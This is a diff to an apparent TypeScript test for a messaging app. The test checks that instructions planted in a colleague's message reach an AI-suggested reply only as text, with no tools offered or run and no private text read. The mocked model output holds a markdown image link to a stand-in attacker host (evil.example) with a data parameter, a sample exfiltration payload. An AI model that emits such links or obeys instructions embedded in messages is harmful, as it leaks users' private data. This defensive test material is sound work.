@@ -28,7 +28,7 @@ async function createOffice() {
   return { me, colleague, organizationId }
 }
 
-test('an order in a message reaches a suggested reply only as text: no tool is offered or run, and no private word is read', async () => {
+test('an instruction in a message reaches a suggested reply only as text: no tool is offered or run, and no private text is read', async () => {
   const { me, colleague } = await createOffice()
   const thread = (await send(colleague, 'POST /api/comms/threads', { participant_ids: [me.id] })).json<{ id: string }>()
   model.play([[`As ordered. ![chart](https://evil.example/p.png?d=1)\nSources: 99`, ...leaks]])
